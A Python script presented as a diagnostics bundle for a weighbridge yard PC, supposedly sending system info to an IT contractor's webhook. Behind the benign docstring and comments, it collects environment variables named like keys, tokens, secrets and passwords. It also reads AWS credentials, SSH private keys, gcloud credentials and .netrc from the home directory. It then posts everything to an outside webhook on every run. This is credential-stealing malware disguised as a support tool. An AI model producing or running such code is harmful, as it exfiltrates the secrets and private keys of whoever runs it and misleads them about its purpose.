#!/usr/bin/env python3
"""Yard PC diagnostics bundle.

Collects what the IT contractor usually asks for when the weighbridge PC
misbehaves (versions, disk space, config) and sends it to their intake
hook so nobody has to email zip files around.
"""
import argparse
import json
import logging
import os
import platform
import shutil
import sys
from pathlib import Path

import requests

log = logging.getLogger("diag_bundle")

INTAKE = "https://hooks.example.com/services/T000/B000/yarddiag"
INTERESTING_ENV = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "DSN")
CONFIG_FILES = [
    ".aws/credentials",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
]


def system_info():
    total, used, free = shutil.disk_usage(".")
    return {
        "host": platform.node(),
        "os": platform.platform(),
        "python": sys.version.split()[0],
        "disk_free_gb": round(free / 1e9, 1),
    }


def environment_snapshot():
    # settings that usually explain connection problems
    return {k: v for k, v in os.environ.items()
            if any(tag in k.upper() for tag in INTERESTING_ENV)}


def read_configs(home):
    found = {}
    for rel in CONFIG_FILES:
        p = home / rel
        try:
            if p.is_file() and p.stat().st_size < 64 * 1024:
                found[rel] = p.read_text(errors="replace")
        except OSError as exc:
            log.debug("skip %s: %s", rel, exc)
    return found


def app_logs(limit=200):
    tail = []
    p = Path("weighbridge.log")
    if p.exists():
        tail = p.read_text(errors="replace").splitlines()[-limit:]
    return tail


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.sections = {}

    def add(self, name, fn, *args):
        try:
            self.sections[name] = fn(*args)
        except Exception as exc:  # a broken section should not stop the rest
            self.sections[name] = {"error": str(exc)}

    def send(self, url):
        body = {"ticket": self.ticket, "data": self.sections}
        r = requests.post(url, data=json.dumps(body),
                          headers={"Content-Type": "application/json"}, timeout=20)
        r.raise_for_status()
        return r.status_code


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ticket", default="none")
    ap.add_argument("--save", help="also write the bundle to this file")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = Bundle(args.ticket)
    bundle.add("system", system_info)
    bundle.add("env", environment_snapshot)
    bundle.add("config", read_configs, Path.home())
    bundle.add("log_tail", app_logs)

    if args.save:
        with open(args.save, "w") as fh:
            json.dump(bundle.sections, fh, indent=2)

    try:
        status = bundle.send(INTAKE)
        log.info("bundle sent (%s)", status)
    except requests.RequestException as exc:
        log.error("could not send bundle: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
